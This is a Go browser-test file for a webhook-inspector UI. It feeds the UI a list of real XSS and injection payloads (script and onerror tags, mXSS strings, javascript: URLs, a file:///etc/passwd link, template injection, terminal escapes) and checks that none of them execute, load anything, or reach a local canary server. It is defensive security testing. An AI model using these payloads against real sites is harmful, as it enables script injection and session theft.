package ui_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"path"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"pictap/tunnel/pictify"
	"pictap/tunnel/store"
	"pictap/ui"
)

// payloads are texts that would do something if anything took them for more
// than text. CANARY is a server that must never hear of them.
var payloads = []string{
	`<script>window.__pwn=1</script>`,
	`<script src="http://CANARY/x.js"></script>`,
	`<img src=x onerror="window.__pwn=1">`,
	`<img src="http://CANARY/x.png">`,
	`<svg onload="window.__pwn=1">`,
	`<svg><script>window.__pwn=1</script></svg>`,
	`<svg><animate onbegin="window.__pwn=1" attributeName=x dur=1s>`,
	`<iframe src="javascript:window.parent.__pwn=1"></iframe>`,
	`<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
	`<object data="http://CANARY/x.swf"></object>`,
	`<embed src="http://CANARY/x">`,
	`<link rel=stylesheet href="http://CANARY/x.css">`,
	`<style>@import "http://CANARY/x.css";</style>`,
	`<base href="http://CANARY/">`,
	`<meta http-equiv=refresh content="0;url=http://CANARY/">`,
	`<form action="http://CANARY/"><button>x</button></form>`,
	`<details open ontoggle="window.__pwn=1">`,
	`<video><source onerror="window.__pwn=1"></video>`,
	`<input autofocus onfocus="window.__pwn=1">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>">`,
	`<template><img src=x onerror=window.__pwn=1></template>`,
	`</title></style></textarea></script><img src=x onerror=window.__pwn=1>`,
	`"><img src=x onerror=window.__pwn=1>`,
	`' onmouseover='window.__pwn=1`,
	`" style="background:url(http://CANARY/x)" x="`,
	`javascript:window.__pwn=1`,
	`JaVaScRiPt&colon;window.__pwn=1`,
	"java\tscript:window.__pwn=1",
	`data:text/html,<script>window.__pwn=1</script>`,
	`vbscript:msgbox(1)`,
	`file:///etc/passwd`,
	`//CANARY/x`,
	`http://user:password@CANARY/x`,
	`http://CANARY/plain`,
	"http://CANARY/\u202egnp.exe",
	`${window.__pwn=1}{{constructor.constructor('window.__pwn=1')()}}`,
	`{"__proto__":{"onclick":"window.__pwn=1"},"constructor":{"prototype":{}},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__pwn=1>"}}`,
	"\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0=\x07\x9b31m\u009b31m",
	"\u202eevil\u202c \u2066x\u2069 \u200b\u200e\u061c\ufeff \x00 \x7f \r\n\b",
	strings.Repeat("A", 4000),
	strings.Repeat("\u0301", 500),
}

// hostile is a delivery that says text in every place where somebody else's
// text can stand.
func hostile(n int, text string) store.Delivery {
	d := sample(n)
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err) // it is a string
	}
	d.Body = fmt.Appendf(nil, `{"event":%[1]s,"data":{"url":%[1]s,%[1]s:[%[1]s,{"x":%[1]s}]}}`, quoted)
	if n%3 == 0 {
		d.Body = []byte(text) // as raw as it comes
	}
	d.BodySize = int64(len(d.Body))
	d.Event, d.About, d.DeliveryID, d.Subscription = pictify.EventType(text), text, text, text
	d.Method, d.Path, d.Remote = text, text, text
	line := strings.NewReplacer("\r", "", "\n", "").Replace(text) // net/http lets no line break in
	d.Header = []store.Field{{Name: strings.ReplaceAll(line, ": ", ""), Value: line}, {Name: "User-Agent", Value: line}, {Name: "X-Pictify-Signature", Value: "t=1769682600,v1=00," + line}}
	return d
}

// What is on the page may be an element of ours, or text; nothing else, and nothing
// unseen in it. A picture may only be a blob, which the page has made itself.
const inspect = `(() => {
	const wrong = [...document.querySelectorAll("#page *")].filter((e) => !/^(header|nav|main|section|article|footer|div|span|p|h[1-3]|dl|dt|dd|button|table|thead|tbody|tr|th|td|small|em|b|i|time|pre|details|summary|kbd|code|a|input|mark|u|ul|li|figure|figcaption|img)$/.test(e.localName)).map((e) => e.localName);
	for (const e of document.querySelectorAll("#page *")) for (const a of e.attributes) if (!(a.name === "src" && e.localName === "img" && a.value.startsWith("blob:")) && /^on|^src|^srcdoc|^action|^formaction/.test(a.name)) wrong.push(a.name);
	for (const a of document.querySelectorAll("#page a")) if (!a.href.startsWith("blob:" + location.origin + "/") && !/^https?:\/\/[^@/]*(\/|$)/.test(a.href) || !a.relList.contains("noopener") || !a.relList.contains("noreferrer")) wrong.push("link " + a.href);
	const unseen = /[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
	if (unseen.test(document.querySelector("#page").textContent)) wrong.push("unseen characters in the text");
	for (const e of document.querySelectorAll("#page [title], #page [aria-label]")) if (unseen.test(e.title + e.ariaLabel)) wrong.push("unseen characters in a title");
	return wrong;
})()`

// Whatever anybody sends is text on the page: it does not run, it is not asked
// for, it does not become a link that is none, and it hides nothing.
func TestHostilePayloads(t *testing.T) {
	var mu sync.Mutex
	var heard []string
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	canary := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		heard = append(heard, r.URL.String())
	})}
	done := make(chan struct{})
	go func() { defer close(done); canary.Serve(l) }()
	defer func() { canary.Close(); <-done }()

	st := openStore(t)
	var all []string
	for n, text := range payloads {
		text = strings.ReplaceAll(text, "CANARY", l.Addr().String())
		all = append(all, text)
		d := hostile(n, text)
		if n%3 == 2 {
			d.DeliveryID = all[n-1] // another one that says so
		}
		if n%2 == 0 {
			d = record(t, st, d, 0)
			answer(t, st, d, store.Attempt{Kind: store.Forward, URL: text, Status: 500, Error: text, Header: d.Header[1:], Body: []byte(text), BodySize: int64(len(text))})
			continue
		}
		d.Verdict, d.Reason, d.Proof = pictify.Verdict(text), text, fmt.Appendf(nil, "%016d", n)
		record(t, st, d, 0)
	}
	s := serve(t, ui.Options{
		Store: st, Events: pictify.EventTypes(),
		Trigger: func(context.Context, pictify.EventType) error { return nil },
		Status: func() ui.Status {
			status := ui.Status{PublicURL: all[1], ForwardTo: all[2], Tunnel: all[3], App: all[4], Mode: all[5], Warnings: all}
			for _, text := range all {
				status.Subscriptions = append(status.Subscriptions, ui.SubscriptionStatus{UID: text, Event: text, URL: text, Status: text, Note: text})
			}
			return status
		},
	})
	p := newTab(t)
	p.open(s.LaunchURL())
	p.wait(live + ` && document.querySelector("#d1, .lines > .line")`)
	eval[chromedp.Void](p, `void (window.violations = [], document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective + " " + e.blockedURI)))`)
	scripts := eval[int](p, `document.scripts.length`)
	p.click(`.fact button[aria-controls=subscriptions]`)
	p.wait(`document.querySelectorAll(".subscriptions tbody tr").length > 40`)
	check := func(where string) {
		t.Helper()
		for _, w := range eval[[]string](p, inspect) {
			t.Errorf("%s: %s", where, w)
		}
	}
	check("list and subscriptions")
	p.click(`.fact button[aria-controls=subscriptions]`)
	links, siblings := 0, 0
	for i := range payloads {
		id := len(payloads) - i
		p.press("j")
		if i == 0 {
			p.press(enter)
		}
		p.wait(fmt.Sprintf(`document.querySelector(".detail[aria-label='Delivery d%d'] .fields")`, id))
		eval[chromedp.Void](p, `void document.querySelectorAll(".detail details:not([open]) summary").forEach((e) => e.click())`)
		check(fmt.Sprintf("detail of d%d", id))
		siblings += eval[int](p, `document.querySelectorAll(".detail .siblings .chip").length`)
		links += eval[int](p, `document.querySelectorAll(".detail a").length`)
		for _, way := range []string{"raw", "hex", "tree"} {
			eval[chromedp.Void](p, `void document.querySelectorAll(".detail .ways button").forEach((e) => e.textContent === "`+way+`" && e.click())`)
			eval[chromedp.Void](p, settled)
			check(fmt.Sprintf("detail of d%d as %s", id, way))
		}
		// Each line of the tree, with what can be done with it, and a search in it.
		for line := range 4 {
			eval[chromedp.Void](p, fmt.Sprintf(`void document.querySelectorAll(".detail .tree [role=treeitem]")[%d]?.click()`, line))
			eval[chromedp.Void](p, settled)
			check(fmt.Sprintf("line %d of d%d", line, id))
		}
		links += eval[int](p, `document.querySelectorAll(".detail .tree a").length`)
	}
	if siblings == 0 {
		t.Error("no siblings at all")
	}
	if links == 0 {
		t.Error("no link at all: a plain http address may be one")
	}
	if n := eval[int](p, `document.scripts.length`); n != scripts {
		t.Errorf("%d scripts in the document, want %d", n, scripts)
	}
	if v := eval[[]string](p, `window.violations`); len(v) > 0 {
		t.Errorf("the policy had to step in: %q", v)
	}
	if eval[bool](p, `"__pwn" in window`) {
		t.Error("a payload ran")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(heard) > 0 {
		t.Errorf("payloads were asked for: %q", heard)
	}
	p.healthy()
}

// What is said of pictures, and what they are called, is text as well.
func TestHostilePictures(t *testing.T) {
	var results []map[string]any
	for _, text := range payloads {
		results = append(results, map[string]any{"url": "https://cdn.pictify.io/" + text, "format": text, "type": text, "width": text, "height": 5})
	}
	body, err := json.Marshal(map[string]any{"event": "batch.completed", "data": map[string]any{"results": results}})
	if err != nil {
		t.Fatal(err)
	}
	st := openStore(t)
	d := record(t, st, withBody(0, string(body)), 200)
	png := pictureBytes(t, "small.png")
	s := serve(t, ui.Options{Store: st, Media: func(_ context.Context, address string) ([]byte, error) {
		if len(address)%2 == 0 {
			return nil, &ui.MediaError{Words: address}
		}
		return png, nil
	}})
	p := openedAt(t, s, d.ID())
	p.wait(`document.querySelectorAll(".detail .tile").length > 30`)
	eval[chromedp.Void](p, `void (window.violations = [], document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective + " " + e.blockedURI)))`)
	eval[chromedp.Void](p, `void document.querySelectorAll(".tile").forEach((e) => e.click())`)
	p.wait(`![...document.querySelectorAll(".tile")].some((e) => /show|fetching/.test(e.querySelector(".checkered").innerText)) && document.querySelector(".tile img") && document.querySelector(".pictures .trouble")`)
	claims := 0
	for i := range eval[int](p, `document.querySelectorAll(".tile img").length`) {
		eval[chromedp.Void](p, fmt.Sprintf(`void document.querySelectorAll(".tile img")[%d].click()`, i))
		p.wait(`document.querySelector(".pictures .facts-of")`)
		claims += eval[int](p, `document.querySelectorAll(".pictures .claims li").length`)
		for _, w := range eval[[]string](p, inspect) {
			t.Errorf("picture %d: %s", i, w)
		}
	}
	if claims == 0 {
		t.Error("no claims at all")
	}
	if v := eval[[]string](p, `window.violations`); len(v) > 0 {
		t.Errorf("the policy had to step in: %q", v)
	}
	if eval[bool](p, `"__pwn" in window`) {
		t.Error("a payload ran")
	}
	p.healthy()
}

// Should all else fail, the browser itself refuses to make markup of text.
func TestPolicyIsEnforced(t *testing.T) {
	s := serve(t, ui.Options{Store: openStore(t)})
	p := newTab(t)
	p.open(s.LaunchURL())
	p.wait(live)
	for what, js := range map[string]string{
		"innerHTML":     `document.body.innerHTML = "<b>x</b>"`,
		"inline script": `document.body.append(Object.assign(document.createElement("script"), { textContent: "1" }))`,
		"eval":          `setTimeout("1")`,
	} {
		if refused := eval[bool](p, `(() => { try { `+js+`; return false } catch (e) { return e instanceof TypeError || e instanceof EvalError } })()`); !refused {
			t.Errorf("%s is allowed", what)
		}
	}
	if got := eval[string](p, `fetch("http://127.0.0.1:1/").catch((e) => e.name)`); got != "TypeError" {
		t.Errorf("fetch from elsewhere = %s", got)
	}
}

// Our modules do not even try. What outlives the tab is kept in one place, which
// has no token, and start.js reads the choice of colours before modules run.
func TestNoMarkupFromText(t *testing.T) {
	forbidden := regexp.MustCompile(`(?i)innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|createContextualFragment|DOMParser|srcdoc|localStorage|document\.cookie`)
	mayKeep := map[string]string{"static/state/keep.js": "localStorage", "static/start.js": "localStorage"}
	files := 0
	err := fs.WalkDir(ui.Static(), "static", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.Contains(name, "/vendor/") || path.Ext(name) != ".js" {
			return err
		}
		files++
		source, err := fs.ReadFile(ui.Static(), name)
		if err != nil {
			return err
		}
		for _, found := range forbidden.FindAllString(string(source), -1) {
			if found != mayKeep[name] {
				t.Errorf("%s uses %s", name, found)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 10 {
		t.Errorf("looked at %d modules, there are more", files)
	}
}

// A huge body is shown in part, soon, and the page stays quick.
func TestHugeBodies(t *testing.T) {
	st := openStore(t)
	for n, body := range []string{
		strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000),
		`{"k":"` + strings.Repeat("a", 9<<20) + `"}`,
		`[` + strings.Repeat("1,", 400_000) + `1]`,
		`[` + strings.Repeat("9", 1_000_000) + `]`,
		"\xff" + strings.Repeat("\x00\x1b", 500_000),
	} {
		d := sample(n)
		d.Body, d.BodySize = []byte(body), int64(len(body))
		record(t, st, d, 200)
	}
	s := serve(t, demoOptions(st))
	p := newTab(t)
	p.open(s.LaunchURL())
	p.wait(live + ` && document.querySelector("#d5")`)
	for id := 5; id >= 1; id-- {
		took := eval[float64](p, fmt.Sprintf(`(async () => {
			const start = performance.now();
			document.querySelector("#d%d").click();
			while (!document.querySelector(".detail[aria-label='Delivery d%d'] .body :is(pre, .tree)")) await %s;
			await %s;
			return performance.now() - start;
		})()`, id, id, settled, settled))
		t.Logf("d%d shown after %.0f ms", id, took)
		if took > 50_000 { // a fifth of a second as a rule; there have been minutes, from a font feature on a long number
			t.Errorf("d%d shown after %.0f ms", id, took)
		}
		// Unfolding everything, and a search that is found everywhere, are as quick.
		took = eval[float64](p, `(async () => {
			const start = performance.now();
			document.querySelector(".detail .folding button:last-child")?.click();
			await `+settled+`;
			const find = document.querySelector(".detail .find");
			if (find) {
				find.value = "1";
				find.dispatchEvent(new Event("input"));
			}
			await `+settled+`;
			return performance.now() - start;
		})()`)
		t.Logf("d%d unfolded and searched after %.0f ms", id, took)
		if took > 50_000 {
			t.Errorf("d%d unfolded and searched after %.0f ms", id, took)
		}
		if n := eval[int](p, `document.querySelectorAll("*").length`); n > 10_000 {
			t.Errorf("d%d takes %d elements", id, n)
		}
	}
	p.healthy()
}
